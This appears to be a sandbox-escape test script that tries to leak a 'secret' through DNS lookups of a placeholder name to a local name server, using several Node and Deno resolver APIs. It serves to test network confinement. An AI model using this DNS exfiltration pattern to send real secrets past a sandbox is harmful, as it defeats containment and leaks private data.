// Tries: to send a secret out as a name that is looked up, at a name server of its own.
// Escape: the name server sees a question.
const dns = require('node:dns');
(async () => {
  const server = `127.0.0.1:${target.udp}`;
  await attempt('setServers', () => {
    dns.setServers([server]);
    return within(
      300,
      new Promise((resolve, reject) =>
        dns.resolve4('secret.attack.invalid', (error, found) => (error ? reject(error) : resolve(found))),
      ),
    );
  });
  await attempt('a Resolver', () => {
    const resolver = new dns.promises.Resolver();
    resolver.setServers([server]);
    return within(300, resolver.resolveTxt('secret.attack.invalid'));
  });
  await probe('Deno.resolveDns', () =>
    within(
      300,
      Deno.resolveDns('secret.attack.invalid', 'A', {
        nameServer: { ipAddr: '127.0.0.1', port: target.udp },
      }),
    ),
  );
  await attempt('lookup', () => within(300, dns.promises.lookup('secret.attack.invalid')));
})();
